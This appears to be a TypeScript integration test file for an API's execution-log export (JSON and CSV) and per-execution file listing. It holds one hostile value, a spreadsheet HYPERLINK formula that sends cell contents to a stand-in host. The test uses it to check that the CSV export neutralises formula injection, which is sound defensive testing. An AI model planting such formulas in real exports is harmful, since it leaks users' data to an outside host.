import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { ExecutionStore, GenerationStore, ManifestStore, zeroCounters } from '@core/domain';
import { activeGeneration } from '../support/active-generation.js';
import { type TestApi, startTestApi } from '../support/api-app.js';
import { UNKNOWN_ID } from '../support/registration.js';
import { startAttempt } from '../support/start-attempt.js';

const HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")';
/** Two full pages of the store and a part of a third. */
const MANY = 2300;

let api: TestApi;
let repositoryId: string;
let otherId: string;
const get = (path: string) =>
  request(api.url)
    .get(`/api/v1/executions/${path}`)
    .set({ Authorization: api.authorization('viewer') });

beforeAll(async () => {
  api = await startTestApi();
  [repositoryId, otherId] = [(await api.register()).id, (await api.register()).id];
  await api.database.query(
    `INSERT INTO schedule_execution_logs (repository_id, trigger, status, queued_at, completed_at, duration_seconds,
        error_code, error_message)
      SELECT $1, 'manual', 'failed', '2026-03-01T00:00:00Z'::timestamptz + (n / 3) * interval '1 microsecond',
        now(), n / 10.0, 'code_' || n, CASE WHEN n = 7 THEN $2 ELSE 'Line one' || E'\n' || 'line "two", ' || n END
      FROM generate_series(1, $3::int) AS n`,
    [repositoryId, HOSTILE, MANY],
  );
});
afterAll(() => api.stop());

/** Parses RFC 4180 independently of the code under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

describe('the export', () => {
  it('contains every execution once, newest first, as JSON', async () => {
    const answer = await get('export?format=json');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-disposition']).toBe('attachment; filename="executions.json"');
    const rows = answer.body as { id: string; queued_at: string; error_code: string }[];
    expect(new Set(rows.map(({ id }) => id)).size).toBe(MANY);
    expect(rows.map(({ queued_at: at }) => at)).toEqual(
      rows
        .map(({ queued_at: at }) => at)
        .sort()
        .reverse(),
    );
    const [shown] = rows;
    expect((await get(shown!.id)).body).toEqual(shown);
  });

  it('contains the same as CSV, without formulas that a spreadsheet would run', async () => {
    const [json, csv] = await Promise.all([get('export?format=json'), get('export?format=csv')]);
    expect(csv.headers['content-type']).toContain('text/csv');
    const [head, ...rows] = parseCsv(csv.text);
    expect(rows).toHaveLength(MANY);
    const values = (json.body as Record<string, string | number | boolean | null>[]).map((row) =>
      head!.map((field) => {
        const value = row[field];
        return value === HOSTILE ? `'${HOSTILE}` : value === null ? '' : String(value);
      }),
    );
    expect(rows).toEqual(values);
    // The report of a dry run or a verify has no column.
    expect([...head!, 'report'].toSorted()).toEqual(Object.keys((json.body as object[])[0]!).toSorted());
  });

  it('accepts the filters of the list', async () => {
    const rows = async (query: string) =>
      ((await get(`export?format=json&${query}`)).body as unknown[]).length;
    expect(await rows(`repository_id=${otherId}`)).toBe(0);
    expect(await rows('status=failed&trigger=manual')).toBe(MANY);
    expect(await rows('status=completed')).toBe(0);
    expect(await rows('from=2026-03-01T00:00:00.001Z')).toBe(0);
  });

  it('answers an empty document when nothing matches', async () => {
    expect((await get('export?format=json&status=running')).body).toEqual([]);
    expect(parseCsv((await get('export?status=running')).text)).toHaveLength(1);
  });

  it.each(['format=xml', 'limit=5', 'status=done'])('refuses ?%s', async (query) => {
    expect((await get(`export?${query}`)).status).toBe(400);
  });

  it('needs a token', async () => {
    await request(api.url).get('/api/v1/executions/export').expect(401);
  });
});

describe('the files of an execution', () => {
  it('show failed and skipped files, by the batches of the run', async () => {
    const executions = api.get(ExecutionStore);
    const { id } = await executions.enqueue({
      repositoryId,
      trigger: 'manual',
      requestedBy: null,
      fullSync: false,
    });
    const run = await startAttempt(executions, id, 'pod-a');
    const entry = {
      mode: '100644',
      blobSha: 'a'.repeat(40),
      fingerprint: 'f',
      sizeBytes: 5,
      language: null,
      chunkCount: 0,
      indexedAt: null,
      skipReason: null,
      skipDetail: null,
      secretsFound: 0,
      secretDetail: null,
      lastError: null,
    };
    await activeGeneration(api.get(GenerationStore), 'repotide');
    await api.get(ManifestStore).commitBatch(
      run!,
      {
        upserts: [
          { ...entry, path: 'b.ts', lastError: 'embedding_request_refused: The input is: too long.' },
          { ...entry, path: 'a.bin', skipReason: 'binary', skipDetail: 'NUL at byte 3' },
          { ...entry, path: 'c.ts', indexedAt: new Date(), chunkCount: 1 },
        ],
        deletes: [],
      },
      zeroCounters(),
    );
    const failed = {
      path: 'b.ts',
      status: 'failed',
      error_code: 'embedding_request_refused',
      message: 'The input is: too long.',
    };
    const skipped = { path: 'a.bin', status: 'skipped', error_code: 'binary', message: 'NUL at byte 3' };
    expect((await get(`${id}/files`)).body).toEqual({ items: [skipped, failed], total: 2 });
    expect((await get(`${id}/files?status=failed`)).body).toEqual({ items: [failed], total: 1 });
    expect((await get(`${id}/files?status=skipped&limit=1&offset=1`)).body).toEqual({ items: [], total: 1 });
  });

  it('are refused for an unknown status, and for an unknown execution', async () => {
    expect((await get(`${UNKNOWN_ID}/files`)).status).toBe(404);
    expect((await get(`${UNKNOWN_ID}/files?status=indexed`)).status).toBe(400);
  });
});
